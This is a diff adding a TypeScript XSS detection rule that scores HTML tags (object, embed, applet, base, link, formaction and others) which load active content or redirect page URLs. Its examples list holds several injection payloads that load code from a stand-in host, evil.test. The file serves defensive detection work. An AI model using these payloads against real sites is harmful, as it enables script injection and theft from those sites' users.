@@ -1,0 +1,188 @@
+import { html } from '../../grammars/html/html.ts';
+import type { HtmlAttribute, HtmlTag } from '../../grammars/html/html-tags.ts';
+import {
+  followsBreakout,
+  isEmbedSite,
+  isForeignUrl,
+  plainValue,
+} from '../../grammars/html/markup.ts';
+import { confidence } from '../../placement/confidence.ts';
+import type { Subject } from '../../placement/subject.ts';
+import { charClass } from '../../text/char-class.ts';
+import type { Match, ValueRule } from '../rule.ts';
+
+/** Elements that load something which can script the page, or change where all its URLs lead. */
+export const activeElement: ValueRule = {
+  id: 'xss.active-element',
+  category: 'xss',
+  cwe: 'CWE-79',
+  severity: 'high',
+  score: confidence.strong,
+  message: 'adds an element that loads active content or moves the base of all links',
+  trigger: {
+    classes: charClass.less,
+    literals: [
+      [
+        'object',
+        'embed',
+        'applet',
+        'base',
+        'link',
+        'layer',
+        'import',
+        'xml',
+        'attlist',
+        'bgsound',
+        'datasrc',
+        'formaction',
+        'math',
+        'urn:schemas',
+      ],
+    ],
+  },
+  judge: judgeActiveElement,
+  examples: [
+    '<embed src="//evil.test/x.swf" allowscriptaccess=always>',
+    "<base href='//evil.test/'>",
+    '<link rel=import href=//evil.test/x.html>',
+    '<object type=text/x-scriptlet data="http://evil.test/s.html">',
+    '<applet code=Evil.class codebase="http://evil.test/">',
+    '--><link rel=stylesheet href=//evil.test/x.css>',
+    '<link rel=modulepreload href=//evil.test/x.js>',
+    'Nice. <link rel=stylesheet href="//evil.test/x.css">',
+  ],
+  lookalikes: [
+    '<link rel="stylesheet" href="/static/site.css">',
+    '<link rel="stylesheet" href="https://cdn.example.org/site.css" type="text/css">',
+    '<link href="//fonts.example.org/css?family=Sans" rel="stylesheet" type="text/css">',
+    '<link rel=stylesheet href="https://cdn.example.org/site.css">',
+    '<embed src="https://www.youtube.com/v/abc" type="application/x-shockwave-flash">',
+    '<base href="/app/"><p>Hello</p>',
+    '<link rel="preconnect" href="https://cdn.example.org"><link rel=prefetch href=/next.html>',
+    'Map<Object, List<Base>> m = new HashMap<>();',
+  ],
+};
+
+function judgeActiveElement(subject: Subject): Match | undefined {
+  const { text } = subject;
+  let best: Match | undefined;
+  let isInMath = false;
+  for (const tag of subject.tokens(html).tags) {
+    if (tag.name === 'math') isInMath = !tag.isEndTag;
+    if (tag.isEndTag || tag.attributes.length === 0) continue;
+    const isMathLink = isInMath && isForeignUrl(plainValue(text, tag, 'xlink:href'));
+    const score = isMathLink ? confidence.likely : scoreOf(text, tag);
+    if (score <= (best?.score ?? 0)) continue;
+    best = { start: tag.start, end: tag.end, score };
+    if (score >= confidence.strong) break;
+  }
+  return best;
+}
+
+function scoreOf(text: string, tag: HtmlTag): number {
+  switch (tag.name) {
+    case 'object':
+      return scoreOfObject(text, tag);
+    case 'embed':
+      return scoreOfLoader(text, tag, ['src', 'code', 'href']);
+    case 'applet':
+      return scoreOfLoader(text, tag, ['code', 'codebase', 'archive', 'object']) > 0
+        ? confidence.strong
+        : 0;
+    case 'layer':
+    case 'ilayer':
+      return tag.attributes.find('src') === undefined ? 0 : confidence.strong;
+    case 'bgsound':
+      return scoreOfLoader(text, tag, ['src']);
+    case 'xml':
+      return tag.attributes.find('src') === undefined ? 0 : confidence.likely;
+    case '?namespace':
+      return plainValue(text, tag, 'ns').endsWith('microsoft-com:time') ? confidence.likely : 0;
+    case 'base':
+      return isForeignUrl(plainValue(text, tag, 'href')) ? confidence.strong : 0;
+    case 'link':
+      return scoreOfLink(text, tag);
+    case 'import':
+    case '?import':
+      return tag.attributes.find('implementation') === undefined ? 0 : confidence.strong;
+    case '?xml-stylesheet':
+      return plainValue(text, tag, 'href') === '' ? 0 : confidence.likely;
+    case '!attlist':
+      return tag.attributes.some(({ name }) => name.startsWith('on') && name.length > 5)
+        ? confidence.strong
+        : 0;
+    default:
+      return scoreOfBinding(text, tag);
+  }
+}
+
+/** Attributes of any element: data from elsewhere, or a form that is sent elsewhere. */
+function scoreOfBinding(text: string, tag: HtmlTag): number {
+  if (isForeignUrl(plainValue(text, tag, 'formaction'))) return confidence.strong;
+  const isBound = tag.attributes.find('datasrc') !== undefined;
+  return isBound && tag.attributes.find('datafld') !== undefined ? confidence.strong : 0;
+}
+
+function scoreOfObject(text: string, tag: HtmlTag): number {
+  if (plainValue(text, tag, 'allowscriptaccess') === 'always') return confidence.strong;
+  if (plainValue(text, tag, 'type').includes('scriptlet')) return confidence.certain;
+  const source = plainValue(text, tag, 'data');
+  if (source !== '') {
+    if (isEmbedSite(source)) return 0;
+    return isForeignUrl(source) || followsBreakout(text, tag.start)
+      ? confidence.strong
+      : confidence.hint;
+  }
+  return tag.attributes.find('classid') === undefined ? 0 : confidence.likely;
+}
+
+function scoreOfLoader(text: string, tag: HtmlTag, names: readonly string[]): number {
+  const isTrusting = plainValue(text, tag, 'allowscriptaccess') === 'always';
+  for (const name of names) {
+    const url = plainValue(text, tag, name);
+    if (url === '') continue;
+    if (isEmbedSite(url)) return 0;
+    return isTrusting || isForeignUrl(url) || url.startsWith('data:') || tag.name === 'applet'
+      ? confidence.strong
+      : confidence.hint;
+  }
+  return 0;
+}
+
+/** What a link may fetch besides a style sheet. */
+const loadingRelations: ReadonlySet<string> = new Set([
+  'preload',
+  'modulepreload',
+  'prefetch',
+  'prerender',
+  'preconnect',
+  'dns-prefetch',
+  'manifest',
+]);
+
+/** A page of today quotes its values and names `https:`; a host name can carry data away. */
+function scoreOfPreload(text: string, tag: HtmlTag, link: HtmlAttribute, url: string): number {
+  if (!isForeignUrl(url)) return 0;
+  return link.quote === 0 || followsBreakout(text, tag.start)
+    ? confidence.likely
+    : confidence.trace;
+}
+
+/** Style sheets of foreign sites are in honest pages too, but then quoted and in no break-out. */
+function scoreOfLink(text: string, tag: HtmlTag): number {
+  const rel = plainValue(text, tag, 'rel');
+  const link = tag.attributes.find('href');
+  if (link === undefined) return 0;
+  if (rel === 'import') return confidence.certain;
+  const url = plainValue(text, tag, 'href');
+  if (rel === 'stylesheet' && url.startsWith('data:text/css')) return confidence.strong;
+  if (loadingRelations.has(rel)) return scoreOfPreload(text, tag, link, url);
+  if (rel !== 'stylesheet') return 0;
+  if (!isForeignUrl(url)) return 0;
+  // No page of today names a style sheet without TLS and nothing beside it.
+  if (url.startsWith('http:') && tag.start < 8) return confidence.likely;
+  if (link.quote === 0 || followsBreakout(text, tag.start)) return confidence.strong;
+  // Code for embedding a style sheet without a scheme quotes all of its values.
+  const isBare = tag.attributes.find('rel')?.quote === 0;
+  return isBare && !url.startsWith('https:') ? confidence.likely : confidence.hint;
+}
